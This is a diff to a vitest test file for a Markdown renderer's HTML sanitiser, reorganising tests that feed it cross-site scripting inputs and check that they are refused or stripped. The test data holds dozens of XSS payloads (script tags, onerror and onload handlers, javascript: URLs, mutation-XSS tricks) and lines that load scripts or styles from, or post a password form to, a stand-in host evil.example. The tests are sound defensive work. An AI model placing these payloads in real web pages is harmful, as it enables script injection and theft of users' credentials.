@@ -1,6 +1,6 @@
 import { fromHtml } from 'hast-util-from-html';
 import { visit } from 'unist-util-visit';
-import { describe, expect, test } from 'vitest';
+import { expect, test } from 'vitest';
 import { proseSchema } from '#content/markdown/schema.ts';
 import { render } from './rendering.ts';
 
@@ -12,15 +12,13 @@ const CHARACTERS =
   'expected an address without spaces, control characters or backslashes. Write %20 for a space.';
 const BESIDE =
   'expected a picture beside the article such as ./bridge.jpg. Save the picture in the article’s folder and write ./ and its name.';
-const TRACKER =
-  'expected a picture beside the article such as ./bridge.jpg. Save it in the article’s folder: fetched from elsewhere it tells who reads.';
 
 const paragraph = (html: string): string =>
   `<p id="p1">${html}<a class="anchor" href="#p1" aria-label="Link to paragraph 1"></a></p>`;
 
 const ATTRIBUTES =
-  /^(?:id|class|href|rel|title|alt|scope|tabindex|aria-label|aria-hidden|aria-describedby|data-picture)$/u;
-const IDS = /^(?:h-.+|p\d+|(?:figure|table)-\d+|fn-\d+|fnref-\d+(?:-\d+)?|footnote-label)$/u;
+  /^(?:id|class|dir|href|lang|open|rel|title|alt|scope|tabindex|aria-label|aria-hidden|aria-describedby|data-picture)$/u;
+const IDS = /^(?:h-.+|a-.+|p\d+|(?:figure|table)-\d+|fn-\d+|fnref-\d+(?:-\d+)?|footnote-label)$/u;
 const SAFE_PROTOCOLS = new Set(['https:', 'http:', 'mailto:', 'tel:']);
 
 /** What a browser would run, fetch, obey or let shadow a global, as it reads the HTML itself. */
@@ -59,57 +57,80 @@ test('the harm that the following tests look for is found where it is', () => {
   ]);
 });
 
-describe('raw HTML is refused', () => {
-  test.each([
-    ['<script>alert(1)</script>', 'script'],
-    ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', 'script'],
-    ['a <script>alert(1)</script> b', 'script'],
-    ['<svg onload=alert(1)>', 'svg'],
-    ['<svg><script>alert(1)</script></svg>', 'svg script'],
-    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', 'iframe'],
-    ['<img src=x onerror=alert(1)>', 'img'],
-    ['a <img src=x onerror=alert(1)> b', 'img'],
-    ['<body onload=alert(1)>', 'body'],
-    ['<details open ontoggle=alert(1)>x</details>', 'details'],
-    ['<video><source onerror=alert(1)></video>', 'video source'],
-    ['<a href="javascript:alert(1)" onclick="alert(1)">x</a>', 'a'],
-    [
-      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-      'math mtext table mglyph style img',
-    ],
-    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', 'noscript p'],
-    ['<style>@import "//evil.example/x.css";</style>', 'style'],
-    ['<p style="background:url(javascript:alert(1))">x</p>', 'p'],
-    ['<base href="//evil.example/">', 'base'],
-    ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', 'meta'],
-    ['<link rel="stylesheet" href="//evil.example/x.css">', 'link'],
-    ['<form action="//evil.example"><input name="password"></form>', 'form'],
-    ['<object data="javascript:alert(1)"></object>', 'object'],
-    ['<embed src="javascript:alert(1)">', 'embed'],
-    ['<template><script>alert(1)</script></template>', 'template script'],
-    ['<p id="location" name="cookie">x</p>', 'p'],
-    ['<table><tr><td>swallows the rest', 'table'],
-    ['| <script>alert(1)</script> |\n|---|', 'script'],
-  ])('%s', async (markdown, tags) => {
-    const { said, html } = await render(markdown);
-    const beginnings = tags
-      .split(' ')
-      .map((tag) => `a.md:10: found the raw HTML tag <${tag}>, expected`);
-    expect(said.map((sentence) => sentence.split(' Markdown only')[0])).toEqual(beginnings);
-    expect(findHarm(html)).toEqual([]);
-  });
+const REFUSED = [
+  ['<script>alert(1)</script>', 'script'],
+  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', 'script'],
+  ['a <script>alert(1)</script> b', 'script'],
+  ['<svg onload=alert(1)></svg>', 'svg'],
+  ['<svg><script>alert(1)</script></svg>', 'svg'],
+  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', 'iframe'],
+  ['<iframe src="javascript:alert(1)"></iframe>', 'iframe'],
+  ['<iframe src="data:text/html,x"></iframe>', 'iframe'],
+  ['<video><source onerror=alert(1)></video>', 'video'],
+  ['<style>@import "//evil.example/x.css";</style>', 'style'],
+  ['<base href="//evil.example/">', 'base'],
+  ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', 'meta'],
+  ['<link rel="stylesheet" href="//evil.example/x.css">', 'link'],
+  ['<form action="//evil.example"><input name="password"></form>', 'form'],
+  ['<object data="javascript:alert(1)"></object>', 'object'],
+  ['<embed src="javascript:alert(1)">', 'embed'],
+  ['<template><script>alert(1)</script></template>', 'template'],
+  ['<title><img src=x onerror=alert(1)></title>', 'title'],
+  ['<textarea><img src=x onerror=alert(1)></textarea>', 'textarea'],
+  ['<xmp><img src=x onerror=alert(1)></xmp>', 'xmp'],
+  ['<plaintext><img src=x onerror=alert(1)>', 'plaintext'],
+  ['<select><option><script>alert(1)</script></select>', 'select'],
+  ['<?xml version="1.0"?><script>alert(1)</script>', 'script'],
+  ['| <script>alert(1)</script> |\n|---|', 'script'],
+  ['<blockquote>x</blockquote><script src="https://evil.example/platform.twitter.com/"></script>', 'script'],
+] as const;
 
-  test.each([
-    ['<!--><img src=x onerror=alert(1)>-->', 'an HTML comment'],
-    ['<![CDATA[<script>alert(1)</script>]]>', 'raw markup'],
-    ['<?xml version="1.0"?><script>alert(1)</script>', 'raw markup'],
-  ])('%s', async (markdown, found) => {
-    const { said, html } = await render(markdown);
-    expect(said).toEqual([
-      `a.md:10: found ${found}, expected Markdown only. Remove it, or write \\< to show the sign itself.`,
-    ]);
-    expect(findHarm(html)).toEqual([]);
-  });
+test.each(REFUSED)('an element that would do harm is refused: %s', async (markdown, tag) => {
+  const { problems, html } = await render(markdown);
+  const found = problems.filter(({ kind }) => kind === 'HTML elements that are not shown');
+  expect(found.map((one) => one.found.split(' with ')[0])).toEqual([`the element <${tag}>`]);
+  expect(findHarm(html)).toEqual([]);
+});
+
+test.each([
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<img src=x onerror=alert(1)>',
+  'a <img src=x onerror=alert(1)> b',
+  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
+  '<a href="java&#10;script:alert(1)">x</a>',
+  '<body onload=alert(1)>',
+  '<table><tr><td>swallows the rest',
+])('HTML that would do harm is refused: %s', async (markdown) => {
+  const { problems, html } = await render(markdown);
+  expect(problems).not.toEqual([]);
+  expect(findHarm(html)).toEqual([]);
+});
+
+test.each([
+  ['<details open ontoggle=alert(1)>x</details>', `<details open>${paragraph('x')}</details>`],
+  ['<p style="background:url(javascript:alert(1))">x</p>', paragraph('x')],
+  ['<p id="location" name="cookie">x</p>', paragraph('x')],
+  [
+    '<a id="location" name="cookie">x</a> <a href="#location">y</a>',
+    paragraph('<span id="a-location"></span>x <a href="#a-location">y</a>'),
+  ],
+  ['<p data-own data-anchor="x" data-paragraph="9" class="footnotes">x</p>', paragraph('x')],
+  ['<section data-footnotes class="footnotes"><p>x</p></section>', paragraph('x')],
+  ['<sup data-footnote-ref="">x</sup>', paragraph('<sup>x</sup>')],
+  [
+    '<a href="https://e.org" rel="opener" ping="https://t.example" target="_blank">x</a>',
+    paragraph('<a href="https://e.org" rel="external">x</a>'),
+  ],
+  ['<q cite="javascript:alert(1)">x</q>', paragraph('<q>x</q>')],
+  ['<p lang="x&quot; onclick=alert(1)" dir="x">x</p>', paragraph('x')],
+])('HTML loses what would do harm: %s', async (markdown, expected) => {
+  const { said, html } = await render(markdown);
+  expect(said).toEqual([]);
+  expect(html).toBe(expected);
+  expect(findHarm(html)).toEqual([]);
 });
 
 test.each([
@@ -154,6 +175,12 @@ test.each([
       `a.md:10: found "https://example.org@evil.example", expected an address without a user name or password. Remove what stands before the @.`,
     ],
   ],
+  [
+    '[x](<java\nscript:alert(1)>)',
+    [
+      'a.md:10: found "[x](<java", expected [words](address). Complete the link, or write \\[ for the sign itself.',
+    ],
+  ],
   ['[x](javascript%3Aalert(1))', [`a.md:10: found "javascript%3Aalert(1)", ${RELATIVE}`]],
   ['<javascript:alert(1)>', [`a.md:10: found "javascript:alert(1)", ${SCHEME}`]],
   ['<vbscript:alert(1)>', [`a.md:10: found "vbscript:alert(1)", ${SCHEME}`]],
@@ -161,14 +188,6 @@ test.each([
   ['[x]\n\n[x]: <data:text/html,x> "title"', [`a.md:12: found "data:text/html,x", ${SCHEME}`]],
   ['![x](javascript:alert(1))', [`a.md:10: found "javascript:alert(1)", ${BESIDE}`]],
   ['![x](data:image/svg+xml,x)', [`a.md:10: found "data:image/svg+xml,x", ${BESIDE}`]],
-  [
-    '![x](https://tracker.example/x.png)',
-    [`a.md:10: found "https://tracker.example/x.png", ${TRACKER}`],
-  ],
-  [
-    '![x][d]\n\n[d]: //tracker.example/x.png',
-    [`a.md:12: found "//tracker.example/x.png", ${TRACKER}`],
-  ],
   [
     '[![x](javascript:alert(1))](javascript:alert(1))',
     [
@@ -183,7 +202,6 @@ test.each([
 });
 
 test.each([
-  ['[x](<java\nscript:alert(1)>)', paragraph('[x](&#x3C;java\nscript:alert(1)>)')],
   [
     '[x](https://example.org "\\" onclick=alert(1) x=\\"")',
     paragraph(
@@ -207,9 +225,6 @@ test.each([
   ['`<script>alert(1)</script>`', paragraph('<code>&#x3C;script>alert(1)&#x3C;/script></code>')],
   ['\\<script>alert(1)\\</script>', paragraph('&#x3C;script>alert(1)&#x3C;/script>')],
   ['&lt;script&gt;alert(1)&lt;/script&gt;', paragraph('&#x3C;script>alert(1)&#x3C;/script>')],
-  ['{% raw %}{{ constructor }}{% endraw %}', paragraph('{% raw %}{{ constructor }}{% endraw %}')],
-  ['x\n{: onclick="alert(1)"}', paragraph('x\n{: onclick="alert(1)"}')],
-  [':::script{onclick=alert(1)}\nx\n:::', paragraph(':::script{onclick=alert(1)}\nx\n:::')],
   [
     '<https://example.org/"onmouseover="alert(1)>',
     paragraph(
